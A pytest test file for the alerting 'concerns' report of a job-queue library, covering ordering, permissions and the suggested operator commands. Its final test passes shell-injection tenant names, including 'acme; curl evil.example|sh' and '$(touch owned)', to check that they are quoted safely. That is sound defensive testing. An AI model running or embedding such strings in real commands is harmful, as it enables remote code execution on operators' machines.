"""`app.alerts.concerns()`: what is wrong now, the most urgent first, and nothing where nothing is."""

from __future__ import annotations

import inspect
import re
import shlex
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest

from fairlane import Fairlane, FakeClock, PermissionDenied, tenant
from fairlane.client.admin import concerns as module
from fairlane.core.ops import Alert, Enqueue, Renew, SaveAlerts
from fairlane.errors import QueuePaused
from fairlane.testing import run_due
from fairlane.testing.conformance.samples import Making

MINUTE = timedelta(minutes=1)


class Shop:
    """An application with one task, and whatever is wrong with it."""

    def __init__(self, app: Fairlane, clock: FakeClock) -> None:
        self.app, self.clock, self._making = app, clock, Making()

        @app.task(name="mail.send", queue="mail", breaker="smtp")
        def send() -> None: ...

        @app.task(name="fail", max_attempts=1)
        def fail() -> None:
            raise ValueError("no such address")

    def send(self, tenant: str = "acme", count: int = 1) -> None:
        for _ in range(count):
            self.app.tasks["mail.send"].using(tenant=tenant).enqueue()

    def hire(self, lease_s: float = 6000, **serving: Any) -> None:
        self.app.runtime.access.run(Renew(worker=self._making.worker_id(), lease_s=lease_s, name="vm:1", **serving))

    def fail(self, count: int = 1) -> None:
        for number in range(count):
            self.app.tasks["fail"].using(tenant=f"t{number}").enqueue()
        run_due(self.app)

    def fire(self, rule: str, about: str = "", value: float = 1.0, severity: str = "warning") -> None:
        at = {"since": self.clock.now(), "fired_at": self.clock.now(), "resolved_at": None}
        alert = Alert(rule=rule, about=about, state="firing", value=value, severity=severity, version=1, **at)
        self.app.runtime.access.run(SaveAlerts(alerts=(alert,)))

    def give_up(self, task: str) -> None:
        """A message of an alert that no receiver took."""
        job = self._making.job(type=task)
        self.app.runtime.access.run(Enqueue(jobs=(job,)))
        self.app.jobs.bury(job.id, reason="404 Not Found")

    def block(self, count: int = 1) -> None:
        for _ in range(count):
            flow = self.app.workflow("onboard")
            flow.add(self.app.tasks["mail.send"].bind(), after=[flow.add(self.app.tasks["fail"].bind())])
            flow.enqueue()
        run_due(self.app)


@pytest.fixture
def shop(make_app: Callable[..., Fairlane], clock: FakeClock) -> Shop:
    return Shop(make_app(), clock)


def no_worker(shop: Shop) -> None:
    shop.send(count=4)
    shop.clock.advance(61)


def lonely(shop: Shop) -> None:
    shop.hire(queues=("default",))
    shop.send()


def unknown_task(shop: Shop) -> None:
    shop.hire(types=("fail",))
    shop.send(count=2)


def worker_lost(shop: Shop) -> None:
    shop.hire(lease_s=5)
    shop.clock.advance(65)


def paused(shop: Shop) -> None:
    shop.hire()
    shop.send(count=3)
    shop.app.queues.pause("mail", by="ada", notes="maintenance")
    shop.app.queues.pause("empty", by="ada")


def paused_tenant(shop: Shop) -> None:
    shop.hire()
    shop.send(count=2)
    shop.app.tenants.pause("acme", by="ada")
    shop.app.tasks.pause("mail.send", by="eve")
    shop.app.tenants.pause("idle", by="ada")


def limit_of_none(shop: Shop) -> None:
    shop.hire()
    shop.send(count=2)
    shop.app.limits.set(tenant="acme", running=0, by="ada")
    shop.app.limits.set(queue="mail", running=1, by="ada")


def breaker(shop: Shop) -> None:
    shop.app.breakers.open("smtp", by="ada")


def workflow_blocked(shop: Shop) -> None:
    shop.hire()
    shop.block()
    shop.app.dead_letters.acknowledge(shop.app.dead_letters.list().dead_letters[0])


def key_blocked(shop: Shop) -> None:
    shop.hire()
    for _ in range(3):
        shop.app.tasks["fail"].using(tenant="acme", key="shop:berlin", ordered=True).enqueue()
    run_due(shop.app)


def dead_letters(shop: Shop) -> None:
    shop.hire()
    shop.fail(26)


def many_dead_letters(shop: Shop) -> None:
    dead_letters(shop)
    shop.fire("dead_letters", value=26, severity="critical")


def alerts_not_sent(shop: Shop) -> None:
    shop.hire()
    shop.fail()
    for _ in range(2):
        shop.give_up("fairlane.webhook")


def error_rate(shop: Shop) -> None:
    shop.fire("error_rate", "mail.send", 0.749)


STORIES: list[tuple[Callable[[Shop], None], list[tuple[str, str, str, int | None, str]]]] = [
    (no_worker, [("no_worker", "critical", 'queue "mail" has 4 ready jobs and no worker is live', 4,
      "fairlane worker --queues mail")]),
    (lonely, [("no_worker", "warning", 'queue "mail" has 1 ready job and no live worker serves it', 1,
      "fairlane worker --queues mail")]),
    (unknown_task, [("unknown_task", "warning", '2 jobs of task "mail.send", which no live worker knows', 2,
      "fairlane jobs list type:mail.send")]),
    (worker_lost, [("worker_lost", "warning", 'worker "vm:1" is not heard of any more and holds 0 jobs', 0,
      "fairlane workers list; a live worker takes its jobs back")]),
    (paused, [("paused", "warning", 'queue "mail" is paused by ada: maintenance; jobs that wait: 3', 3,
      "fairlane queues resume mail")]),
    (paused_tenant, [
        ("paused", "warning", 'tenant "acme" is paused by ada; jobs that wait: 2', 2, "fairlane tenants resume acme"),
        ("paused", "warning", 'task "mail.send" is paused by eve; jobs that wait: 2', 2,
         "fairlane tasks resume mail.send"),
    ]),
    (limit_of_none, [("limit_of_none", "warning", 'tenant "acme" is limited to none by ada', 2,
      "fairlane limits clear --tenant acme")]),
    (breaker, [("breaker", "warning", 'breaker "smtp" is open by hand, until somebody resets it', None,
      "fairlane breakers reset smtp")]),
    (workflow_blocked, [
        ("workflow_blocked", "warning",
         'workflow "onboard" goes on when somebody deals with its dead nodes (1 dead, 1 waiting)', 1,
         "fairlane workflows show "),
        ("dead_letters", "info", "1 dead letter pending review: ValueError of fail", 1,
         "fairlane dead-letters groups"),
    ]),
    (key_blocked, [
        ("key_blocked", "warning", 'dead letter 1 of tenant "acme" holds up 2 jobs at shop:berlin', 2,
         "fairlane dead-letters reprocess 1, or resolve or discard it"),
        ("dead_letters", "info", "1 dead letter pending review: ValueError of fail", 1,
         "fairlane dead-letters groups"),
    ]),
    (dead_letters, [("dead_letters", "info",
      "26 dead letters pending review: ValueError of fail", 26, "fairlane dead-letters groups")]),
    (many_dead_letters, [("dead_letters", "critical",
      "26 dead letters pending review: ValueError of fail", 26, "fairlane dead-letters groups")]),
    (alerts_not_sent, [
        ("alerts_not_sent", "critical", "2 messages of alerts could not be sent by fairlane.webhook: Buried", 2,
         "fairlane dead-letters reprocess --fingerprint "),
        ("dead_letters", "info", "3 dead letters pending review: 2 of them Buried of fairlane.webhook", 3,
         "fairlane dead-letters groups"),
    ]),
    (error_rate, [("error_rate", "warning", '75% of the attempts of "mail.send" failed (more than 0.1)', None,
      "fairlane dead-letters groups")]),
]  # fmt: skip


@pytest.mark.requirement("D27")
@pytest.mark.parametrize(("story", "expected"), STORIES, ids=[story.__name__ for story, _ in STORIES])
def test_what_is_wrong_is_said_with_its_extent_and_the_command_that_helps(
    shop: Shop, story: Callable[[Shop], None], expected: list[tuple[str, str, str, int | None, str]]
) -> None:
    story(shop)
    found = shop.app.alerts.concerns().concerns
    said = [(one.code, one.severity, one.says, one.jobs, one.helps[: len(helps)]) for one, (*_, helps) in
            zip(found, expected, strict=True)]  # fmt: skip
    assert said == expected
    assert all((one.since is None) == (one.code in ("unknown_task", "workflow_blocked")) for one in found)


def test_every_kind_of_concern_has_a_story() -> None:
    codes = set(re.findall(r'code="(\w+)"', inspect.getsource(module)))
    assert codes == {code for _, expected in STORIES for code, *_ in expected} - {"error_rate"}


def test_nothing_is_said_where_nothing_is_wrong(shop: Shop) -> None:
    shop.hire()
    shop.send()
    shop.app.limits.set(tenant="acme", running=1, by="ada")
    run_due(shop.app)
    assert shop.app.alerts.concerns().concerns == ()


def test_the_most_urgent_comes_first_and_of_equals_the_oldest(shop: Shop) -> None:
    shop.fail(2)
    shop.app.queues.pause("default", by="ada")
    shop.app.tasks["fail"].enqueue()
    shop.clock.advance(60)
    breaker(shop)
    shop.send()
    shop.clock.advance(61)
    found = shop.app.alerts.concerns()
    assert [(one.code, one.severity) for one in found.concerns] == [
        ("no_worker", "critical"),
        ("paused", "warning"),
        ("breaker", "warning"),
        ("dead_letters", "info"),
    ]
    assert found.concerns[1].since == found.now - 2 * MINUTE - timedelta(seconds=1)


def test_it_is_for_those_who_see_all_tenants(shop: Shop) -> None:
    with tenant("acme"), pytest.raises(PermissionDenied):
        shop.app.alerts.concerns()


@pytest.mark.parametrize("name", ["acme; curl evil.example|sh", "$(touch owned)", "it's", "a b", "`id`"])
def test_a_tenants_name_stays_one_word_of_the_commands_that_help(shop: Shop, name: str) -> None:
    """A customer has chosen it, and an operator copies the command."""
    shop.hire()
    handle = shop.app.tasks["mail.send"].using(tenant=name).enqueue()
    shop.app.tenants.pause(name, by="ada")
    shop.app.limits.set(tenant=name, running=0, by="ada")
    helps = [one.helps for one in shop.app.alerts.concerns().concerns]
    helps += [reason.helps for reason in shop.app.jobs.why(handle).reasons if reason.helps]
    shop.app.tenants.pause(name, by="ada", refuse=True)
    with pytest.raises(QueuePaused) as refused:
        shop.send(tenant=name)
    helps.append(str(refused.value).partition("once it is resumed: ")[2])
    assert len(helps) == 5
    for command in helps:
        assert shlex.split(command)[:2] in (["fairlane", "tenants"], ["fairlane", "limits"])
        assert name in shlex.split(command)
